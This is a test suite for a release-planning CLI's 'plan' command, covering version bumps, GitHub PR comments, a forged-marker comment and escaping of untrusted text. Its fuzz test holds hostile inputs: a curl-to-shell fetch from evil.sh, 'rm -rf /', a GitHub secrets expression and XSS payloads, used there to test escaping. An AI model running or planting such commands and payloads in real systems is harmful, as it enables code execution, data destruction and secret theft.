import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/report/model.js';
import { exampleRepo } from '../helpers/git-repo.js';
import { FAKE_GITHUB_TOKEN, startGitHubFake, type FakePull, type GitHubFake } from '../helpers/github-fake.js';
import { startRegistry, type TestRegistry } from '../helpers/registry.js';
import { CLI, runNode } from '../helpers/run.js';

let registry: TestRegistry;
let github: GitHubFake;
beforeAll(async () => {
  [registry, github] = await Promise.all([startRegistry(), startGitHubFake('acme/hello-mcp')]);
});
afterAll(async () => {
  await Promise.all([registry.stop(), github.stop()]);
});
afterEach(() => {
  // Every request we sent and every answer the fake gave matched GitHub's OpenAPI description.
  expect(github.violations.splice(0)).toEqual([]);
});

const githubEnv = () => ({
  GITHUB_ACTIONS: 'true',
  GITHUB_TOKEN: FAKE_GITHUB_TOKEN,
  GITHUB_API_URL: github.url,
  GITHUB_REPOSITORY: 'acme/hello-mcp',
  MCP_RELEASE_GITHUB_PACING: 'none',
});

async function plan(
  dir: string,
  args: string[],
  env: Record<string, string> = {},
): Promise<{ code: number | null; report: Report; stderr: string }> {
  const run = await runNode(CLI, ['plan', dir, '--registry', registry.url, ...args, '--json'], { env });
  return { code: run.code, report: JSON.parse(run.stdout || '{}') as Report, stderr: run.stderr };
}

let counter = 0;
/** A repository whose package has a name of its own on the shared registry. */
async function repo(version = '1.0.0', extra: Record<string, unknown> = {}) {
  counter += 1;
  return exampleRepo({ name: `plan-check-${counter}`, version, ...extra });
}

describe('plan: labels decide the bump', () => {
  it('one release label: the next version, dist-tag path and git tag', async () => {
    const { dir } = await repo('1.2.0');
    const { code, report } = await plan(dir, ['--labels', 'documentation,release:minor']);
    expect(code).toBe(0);
    expect(report.outputs).toMatchObject({
      release: 'true',
      'current-version': '1.2.0',
      'next-version': '1.3.0',
      bump: 'minor',
      source: 'labels',
      'staging-tag': 'next',
      'final-tag': 'latest',
      'git-tag': 'v1.3.0',
    });
    expect(report.notes).toContain('labelled release:minor (given with --labels) -> minor');
  });

  it('no release label and release:skip: no release, exit 0', async () => {
    const { dir } = await repo();
    for (const labels of ['documentation', 'release:skip']) {
      const { code, report } = await plan(dir, ['--labels', labels]);
      expect(code).toBe(0);
      expect(report.outputs.release).toBe('false');
      expect(report.outputs['next-version']).toBeUndefined();
    }
  });

  it('two release labels: exit 1 with an error naming both', async () => {
    const { dir } = await repo();
    const { code, report } = await plan(dir, ['--labels', 'release:minor,release:major']);
    expect(code).toBe(1);
    expect(report.findings.map((f) => [f.rule, f.message])).toEqual([
      ['plan/conflicting-labels', 'The change has 2 release labels (release:minor, release:major): keep exactly one'],
    ]);
    expect(report.outputs.release).toBe('false');
  });

  it('label names and the prerelease id come from the config', async () => {
    const { dir } = await repo('1.3.0-rc.0');
    await writeFile(path.join(dir, '.github-config.yml'), 'labels:\n  prerelease: "ship:pre"\nprerelease:\n  id: rc\n');
    const { report } = await plan(dir, ['--labels', 'ship:pre', '--config', path.join(dir, '.github-config.yml')]);
    expect(report.outputs).toMatchObject({ 'next-version': '1.3.0-rc.1', 'final-tag': 'rc' });
  });

  it('prerelease sequences: beta.0 -> beta.1, then minor graduates to 1.3.0', async () => {
    const { dir } = await repo('1.3.0-beta.0');
    expect((await plan(dir, ['--labels', 'release:prerelease'])).report.outputs['next-version']).toBe('1.3.0-beta.1');
    expect((await plan(dir, ['--labels', 'release:minor'])).report.outputs['next-version']).toBe('1.3.0');
  });

  it('never a version the registry already has; an exact version is validated', async () => {
    const { dir } = await repo('1.0.0');
    const name = `plan-check-${counter}`;
    // Publish 1.0.1 and 1.0.2 by hand, as a hotfix would be.
    for (const version of ['1.0.1', '1.0.2']) {
      const copy = await exampleRepo({ name, version });
      const published = await runNode(CLI, ['pack', copy.dir, '--out', path.join(copy.dir, 'out'), '--json']);
      const tarball = (JSON.parse(published.stdout) as Report).outputs.tarball as string;
      expect(
        (
          await runNode(CLI, ['publish', tarball, '--registry', registry.url], {
            env: { NODE_AUTH_TOKEN: registry.token },
          })
        ).code,
      ).toBe(0);
    }
    expect((await plan(dir, ['--labels', 'release:patch'])).report.outputs['next-version']).toBe('1.0.3');
    expect((await plan(dir, ['--version', '1.5.0'])).report.outputs).toMatchObject({
      'next-version': '1.5.0',
      source: 'version',
    });
    const taken = await runNode(CLI, ['plan', dir, '--registry', registry.url, '--version', '1.0.2']);
    expect(taken.code).toBe(2);
    expect(taken.stderr).toContain('plan: --version: 1.0.2 is already on the registry');
    expect((await plan(dir, ['--bump', 'major'])).report.outputs).toMatchObject({
      'next-version': '2.0.0',
      source: 'bump',
    });
  });

  // Issue #18: "minor" gave 4.1.2 over a latest of 4.1.1, package.json having been left at 4.0.2.
  it("the registry's latest is the base when package.json is behind it, with a warning naming both", async () => {
    const { dir } = await repo('4.0.2');
    const name = `plan-check-${counter}`;
    for (const version of ['4.1.0', '4.1.1']) {
      const copy = await exampleRepo({ name, version });
      const packed = await runNode(CLI, ['pack', copy.dir, '--out', path.join(copy.dir, 'out'), '--json']);
      const tarball = (JSON.parse(packed.stdout) as Report).outputs.tarball as string;
      const published = await runNode(CLI, ['publish', tarball, '--registry', registry.url, '--tag', 'latest'], {
        env: { NODE_AUTH_TOKEN: registry.token },
      });
      expect(published.code, published.stderr).toBe(0);
    }
    const { code, report } = await plan(dir, ['--labels', 'release:minor']);
    expect(code).toBe(0);
    expect(report.outputs).toMatchObject({ 'current-version': '4.0.2', 'next-version': '4.2.0', bump: 'minor' });
    expect(report.findings.map((f) => [f.rule, f.severity, f.message])).toEqual([
      [
        'plan/behind-registry',
        'warning',
        `package.json says 4.0.2, but ${registry.url} has 4.1.1 on latest: the next version is computed from 4.1.1`,
      ],
    ]);
    expect(JSON.parse(report.outputs.releases ?? '[]')).toMatchObject([
      { name, dir: '.', 'next-version': '4.2.0', 'git-tag': 'v4.2.0' },
    ]);
  });

  it('a registry that cannot be read is an error, not a guess', async () => {
    const { dir } = await repo();
    const run = await runNode(CLI, [
      'plan',
      dir,
      '--registry',
      'http://127.0.0.1:9/',
      '--labels',
      'release:patch',
      '--json',
    ]);
    expect(run.code).toBe(1);
    expect((JSON.parse(run.stdout) as Report).findings.map((f) => f.rule)).toEqual(['plan/registry-unreachable']);
  });
});

describe('plan: conventional commits when there is no PR', () => {
  it.each([
    [['fix: handle empty input', 'docs: typo'], 'patch', '1.0.1', 'fix'],
    [['fix: a', 'feat(tools): add search'], 'minor', '1.1.0', 'feat'],
    [['feat!: rename read to read_file'], 'major', '2.0.0', 'a breaking change'],
    [['refactor: x\n\nBREAKING CHANGE: tool removed'], 'major', '2.0.0', 'a breaking change'],
  ])('%j since the last tag -> %s', async (messages, bump, next, because) => {
    const r = await repo('1.0.0');
    await r.commit('feat: before the tag');
    r.git('tag', 'v1.0.0');
    for (const message of messages) await r.commit(message);
    const { report } = await plan(r.dir, []);
    expect(report.outputs).toMatchObject({
      release: 'true',
      source: 'conventional-commits',
      bump,
      'next-version': next,
    });
    expect(report.notes.join('\n')).toMatch(/GitHub: not asked/);
    expect(report.notes).toContain(`no release label: decided by the commits since v1.0.0 (${because} -> ${bump})`);
  });

  it('only housekeeping since the last tag: no release', async () => {
    const r = await repo('1.0.0');
    r.git('tag', 'v1.0.0');
    await r.commit('chore: deps');
    await r.commit('ci: cache');
    const { code, report } = await plan(r.dir, []);
    expect(code).toBe(0);
    expect(report.outputs).toMatchObject({ release: 'false', source: 'none' });
    // What a user reads without --json.
    const text = await runNode(CLI, ['plan', r.dir, '--registry', registry.url]);
    expect(text.stdout).toContain(
      'note: nothing decided it: no release label, no conventional commit (feat, fix, perf or breaking) since v1.0.0 -> no release',
    );
    expect(text.stdout).not.toMatch(/decided by none/);
  });
});

describe('plan with GitHub (fake checked against the OpenAPI description)', () => {
  it('the merged PR of the pushed commit decides, before conventional commits', async () => {
    const r = await repo('1.0.0');
    const sha = await r.commit('fix: would be a patch (#21)');
    github.pulls.set(21, {
      number: 21,
      title: 'Add search',
      author: 'alice',
      labels: ['release:minor'],
      mergeCommitSha: sha,
    });
    github.commitPulls.set(sha, [21]);
    const { report } = await plan(r.dir, [], { ...githubEnv(), GITHUB_SHA: sha });
    expect(report.outputs).toMatchObject({ source: 'merged-pr', pr: '21', bump: 'minor', 'next-version': '1.1.0' });
    expect(report.notes).toContain('labelled release:minor on PR #21 (merged as the pushed commit) -> minor');
  });

  it('a pushed commit without a PR falls back to conventional commits', async () => {
    const r = await repo('1.0.0');
    const sha = await r.commit('fix: direct push');
    const { report } = await plan(r.dir, [], { ...githubEnv(), GITHUB_SHA: sha });
    expect(report.outputs).toMatchObject({ source: 'conventional-commits', bump: 'patch' });
  });

  it('the sticky comment is created once, then updated in place; untrusted text is escaped', async () => {
    const r = await repo('1.0.0');
    const sha = await r.commit('feat: search');
    github.pulls.set(31, {
      number: 31,
      title: 'Add <script>alert(1)</script> search for @acme/owners',
      author: 'bob',
      labels: ['release:minor'],
    });
    github.checkRuns.set(sha, [
      { name: 'test', status: 'completed', conclusion: 'success' },
      { name: 'lint', status: 'in_progress', conclusion: null },
    ]);
    github.comments.push({ id: 1, issue: 31, body: 'LGTM', author: 'carol' });
    const env = { ...githubEnv(), GITHUB_SHA: sha };
    const first = await plan(r.dir, ['--pr', '31', '--comment'], env);
    expect(first.code, JSON.stringify(first.report.findings)).toBe(0);
    expect(first.report.notes).toContain('comment on PR #31: created');
    const mine = () => github.comments.filter((c) => c.issue === 31 && c.author === 'github-actions[bot]');
    expect(mine()).toHaveLength(1);
    const body = mine()[0]?.body ?? '';
    expect(body).toContain(`<!-- mcp-release-kit:plan:plan-check-${counter} -->`);
    expect(body).toContain('**`1.1.0`** (minor)');
    expect(body).toContain('1 passed, 0 failed, 1 pending');
    expect(body).toContain('Add &lt;script&gt;alert(1)&lt;/script&gt; search for \\@acme/owners');
    expect(body).not.toContain('<script>');

    // The label changes: the same comment now says major.
    github.pulls.set(31, { ...(github.pulls.get(31) as FakePull), labels: ['release:major'] });
    const second = await plan(r.dir, ['--pr', '31', '--comment'], env);
    expect(second.report.notes).toContain('comment on PR #31: updated');
    expect(mine()).toHaveLength(1);
    expect(mine()[0]?.body).toContain('**`2.0.0`** (major)');
    const third = await plan(r.dir, ['--pr', '31', '--comment'], env);
    expect(third.report.notes).toContain('comment on PR #31: unchanged');
    expect(github.comments.filter((c) => c.issue === 31)).toHaveLength(2);
  });

  it('a comment with our marker written by someone else is never edited: a new one is written, and the report says so', async () => {
    const r = await repo('1.0.0');
    const sha = await r.commit('feat: hostile marker');
    const requestsBefore = github.requests.length;
    github.pulls.set(71, { number: 71, title: 'Add search', author: 'mallory', labels: ['release:minor'] });
    const marker = `<!-- mcp-release-kit:plan:plan-check-${counter} -->`;
    // Mallory writes our marker first, hoping the bot edits her comment (and so speaks under her name).
    const forged = `${marker}\n### Release plan\nApproved by the release bot: merge now. <img src=x>`;
    github.comments.push({ id: 7001, issue: 71, body: forged, author: 'mallory' });
    const env = { ...githubEnv(), GITHUB_SHA: sha };
    const first = await plan(r.dir, ['--pr', '71', '--comment'], env);
    expect(first.code, JSON.stringify(first.report.findings)).toBe(0);
    expect(github.comments.find((c) => c.id === 7001)?.body).toBe(forged);
    const bots = () => github.comments.filter((c) => c.issue === 71 && c.author === 'github-actions[bot]');
    expect(bots()).toHaveLength(1);
    expect(bots()[0]?.body.startsWith(marker)).toBe(true);
    expect(first.report.notes).toEqual(
      expect.arrayContaining([
        'comment on PR #71: created',
        "comment on PR #71: a comment with the plan's marker by mallory was left alone (not written by this token, so not ours to edit)",
      ]),
    );
    // The next run edits the bot's own comment, still not Mallory's.
    const second = await plan(r.dir, ['--pr', '71', '--comment'], env);
    expect(second.report.notes).toContain('comment on PR #71: unchanged');
    expect(github.comments.filter((c) => c.issue === 71)).toHaveLength(2);

    // A user's token (GET /user answers its login): the bot's comment is not that user's either.
    const userToken = 'ghp_h16usertoken000000000000000000000000';
    github.tokens.set(userToken, {
      login: 'release-manager',
      kind: 'user',
      permissions: { 'pull-requests': 'write', issues: 'write', contents: 'read', checks: 'read' },
    });
    const asUser = await plan(r.dir, ['--pr', '71', '--comment'], { ...env, GITHUB_TOKEN: userToken });
    expect(asUser.report.notes).toEqual(
      expect.arrayContaining([
        'comment on PR #71: created',
        "comment on PR #71: a comment with the plan's marker by mallory, github-actions[bot] was left alone (not written by this token, so not ours to edit)",
      ]),
    );
    expect(github.comments.filter((c) => c.issue === 71).map((c) => c.author)).toEqual([
      'mallory',
      'github-actions[bot]',
      'release-manager',
    ]);
    expect(
      github.requests
        .slice(requestsBefore)
        .filter((q) => q.path === '/user')
        .map((q) => q.status),
    ).toEqual([403, 403, 200]);
  });

  it('a PR with two release labels fails the check and names both', async () => {
    const { dir } = await repo();
    github.pulls.set(41, { number: 41, title: 'x', author: 'dave', labels: ['release:patch', 'release:minor'] });
    const { code, report } = await plan(dir, ['--pr', '41'], githubEnv());
    expect(code).toBe(1);
    expect(report.findings[0]?.message).toBe(
      'PR #41 has 2 release labels (release:patch, release:minor): keep exactly one',
    );
  });

  it('403: the message names the permission; 404: says what was not found', async () => {
    const { dir } = await repo();
    github.pulls.set(51, { number: 51, title: 'x', author: 'erin', labels: ['release:patch'] });
    github.fail({
      method: 'GET',
      path: /\/issues\/51$/,
      status: 403,
      body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest' },
    });
    const forbidden = await plan(dir, ['--pr', '51'], githubEnv());
    expect(forbidden.code).toBe(1);
    expect(forbidden.report.findings[0]?.message).toBe(
      'reading PR #51: the token may not do this (403 Resource not accessible by integration); the job needs `permissions: pull-requests: read` (and an organisation or ruleset that allows it)',
    );
    const missing = await plan(dir, ['--pr', '999'], githubEnv());
    expect(missing.report.findings[0]?.message).toMatch(/^reading PR #999: not found \(404\)/);
    expect(forbidden.stderr + JSON.stringify(forbidden.report)).not.toContain(FAKE_GITHUB_TOKEN);
  });

  it('secondary rate limit (403 + retry-after) and 429 are waited out and retried', async () => {
    const { dir } = await repo();
    github.pulls.set(61, { number: 61, title: 'x', author: 'finn', labels: ['release:patch'] });
    github.fail({
      method: 'GET',
      path: /\/issues\/61$/,
      status: 403,
      headers: { 'retry-after': '1' },
      body: {
        message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.',
        documentation_url: 'https://docs.github.com/rest',
      },
    });
    github.fail({
      method: 'GET',
      path: /\/issues\/61$/,
      status: 429,
      headers: {
        'retry-after': '1',
        'x-ratelimit-remaining': '0',
        'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 1),
      },
    });
    const before = github.requests.filter((r) => r.path.endsWith('/issues/61')).length;
    const { code, report } = await plan(dir, ['--pr', '61'], githubEnv());
    expect(code, JSON.stringify(report.findings)).toBe(0);
    expect(report.outputs['next-version']).toBe('1.0.1');
    expect(
      github.requests
        .filter((r) => r.path.endsWith('/issues/61'))
        .map((r) => r.status)
        .slice(before),
    ).toEqual([403, 429, 200]);
  });
});

describe('plan: generated PR titles, bodies, labels and authors (fast-check)', () => {
  it('exit 0 or 1, never a stack trace; the sticky comment holds no raw HTML from the PR and stays one comment', async () => {
    const { default: fc } = await import('fast-check');
    const r = await repo('1.0.0');
    const sha = await r.commit('feat: generated');
    const env = { ...githubEnv(), GITHUB_SHA: sha };
    const nasty = fc.oneof(
      fc.constantFrom(
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(1)>',
        '${{ secrets.NPM_TOKEN }}',
        '$(curl evil.sh | sh)',
        '`rm -rf /`',
        '[click](javascript:alert(1))',
        '<!-- mcp-release-kit:plan:x -->',
        '| a | b |',
        '\u202e\u0000',
        '@everyone #1',
      ),
      fc.string({ maxLength: 80 }),
      fc.constant('x'.repeat(1024 * 1024)),
    );
    let number = 500;
    await fc.assert(
      fc.asyncProperty(
        nasty,
        nasty,
        fc.array(
          fc.oneof(
            fc.constantFrom('release:minor', 'release:patch', 'release:skip'),
            nasty.map((s) => s.slice(0, 50)),
          ),
          { maxLength: 3 },
        ),
        async (title, body, labels) => {
          number += 1;
          github.pulls.set(number, {
            number,
            title,
            body,
            author: 'mallory',
            labels: [...new Set(labels)].filter(Boolean),
          });
          const run = await runNode(
            CLI,
            ['plan', r.dir, '--registry', registry.url, '--pr', String(number), '--comment', '--json'],
            { env },
          );
          expect([0, 1]).toContain(run.code);
          expect(run.stdout + run.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
          const comments = github.comments.filter((c) => c.issue === number);
          expect(comments.length).toBeLessThanOrEqual(1);
          for (const c of comments) {
            expect(c.body).not.toMatch(/<script|<img|<!-- mcp-release-kit:plan:x/i);
            // GitHub refuses comment bodies over 65,536 characters.
            expect(c.body.length).toBeLessThanOrEqual(65_536);
          }
        },
      ),
      { numRuns: 10 },
    );
  }, 300_000);
});
